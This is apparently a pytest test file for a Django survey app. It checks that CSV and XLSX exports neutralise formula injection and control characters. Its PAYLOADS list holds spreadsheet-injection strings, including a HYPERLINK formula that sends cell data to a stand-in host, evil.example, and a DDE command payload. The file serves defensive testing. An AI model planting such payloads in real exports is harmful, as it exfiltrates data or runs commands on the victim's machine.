"""Exports hold residents' texts as inert text: no formula, no control character, no 500."""

import csv
import io
import logging
import re

import pytest
from django.contrib.auth.models import Permission, User
from django.db import connection
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from survey.models import Answer, Draft, Response
from tests.survey.factories import make_full_survey, valid_post

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2&B2,"Mehr Infos")'
PAYLOADS = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


@pytest.fixture
def full():
    return make_full_survey()


def _questionnaire(survey):
    with translation.override("de"):
        return reverse("survey:questionnaire", kwargs={"slug": survey.slug})


def _export(client, survey, kind):
    user = User.objects.create_user(f"export-{kind}", is_staff=True)
    user.user_permissions.set(Permission.objects.filter(codename="export_responses"))
    client.force_login(user)
    return client.get(reverse("survey:export", kwargs={"slug": survey.slug, "kind": kind}))


def _answer_with(client, full, other, token):
    response = client.post(
        _questionnaire(full["survey"]), valid_post(full, Q3_other=other, token=token)
    )
    assert response.status_code == 302


def test_formula_payloads_come_out_of_the_csv_as_readable_text(client, full):
    for index, payload in enumerate(PAYLOADS):
        _answer_with(client, full, payload, f"t{index}")
    body = _export(client, full["survey"], "csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    cells = [row[rows[0].index("Q3_4_other")] for row in rows[1:]]
    assert sorted(cells) == sorted(f"'{payload.strip()}" for payload in PAYLOADS)
    # Missing-value codes are negative whole numbers (-1 … -4): numbers, not formulas.
    texts = [cell for row in rows for cell in row if not re.fullmatch(r"-[0-9]+", cell)]
    assert not [cell for cell in texts if cell[:1] in ("=", "+", "-", "@", "\t")]


def test_formula_payloads_come_out_of_the_xlsx_as_text_cells(client, full):
    for index, payload in enumerate(PAYLOADS):
        _answer_with(client, full, payload, f"t{index}")
    workbook = load_workbook(io.BytesIO(_export(client, full["survey"], "xlsx").content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert f"'{HYPERLINK}" in texts


def test_control_characters_are_removed_when_a_resident_answers(client, full):
    _answer_with(client, full, "Schach\x01\x0b am\x1f Abend\x7f", "t1")
    assert Answer.objects.get(question__code="Q3", text__gt="").text == "Schach am Abend"


def test_a_nul_byte_is_refused_as_a_mistake_and_nothing_is_stored(client, full):
    response = client.post(_questionnaire(full["survey"]), valid_post(full, Q6="Mehr\x00Bänke"))
    assert response.status_code == 200
    assert 'id="Q6-error"' in response.content.decode()
    assert not Response.objects.exists()


def test_a_nul_byte_in_the_submission_token_or_a_saved_draft_never_reaches_the_database(
    client, full
):
    url = _questionnaire(full["survey"])
    assert client.post(url, valid_post(full, token="abc\x00")).status_code == 302
    assert Response.objects.get().submission_token is None
    client.post(url, valid_post(full, action="save", Q6="Bänke\x00\x01"))
    assert Draft.objects.get().data["Q6"] == ["Bänke"]


def test_stored_control_characters_never_break_the_xlsx_export_nor_reach_the_log(
    client, full, caplog
):
    _answer_with(client, full, "Schach", "t1")
    # Whatever the database can hold (PostgreSQL refuses NUL in text; forms refuse it anyway).
    nul = "" if connection.vendor == "postgresql" else "\x00"
    secret = f"Geheim\x01\x02 =1+1\x0b{nul}"
    Answer.objects.filter(question__code="Q6").update(text=secret)
    with caplog.at_level(logging.DEBUG):
        response = _export(client, full["survey"], "xlsx")
        csv_response = _export(client, full["survey"], "csv")
    assert response.status_code == csv_response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    header = [cell.value for cell in next(workbook["Antworten"].iter_rows())]
    row = [cell.value for cell in list(workbook["Antworten"].iter_rows())[1]]
    assert row[header.index("Q6")] == "Geheim =1+1"
    assert "Geheim" not in caplog.text
    assert "\x01" not in csv_response.content.decode("utf-8-sig")


def test_the_public_offers_csv_and_the_survey_exports_share_one_neutraliser():
    from offers import services as offer_services
    from portal.lib.spreadsheets import safe_cell
    from survey import services as survey_services

    assert offer_services.safe_row.__module__ == survey_services.safe_row.__module__
    assert safe_cell("=1+1") == "'=1+1" and safe_cell(-3) == -3 and safe_cell(None) == ""
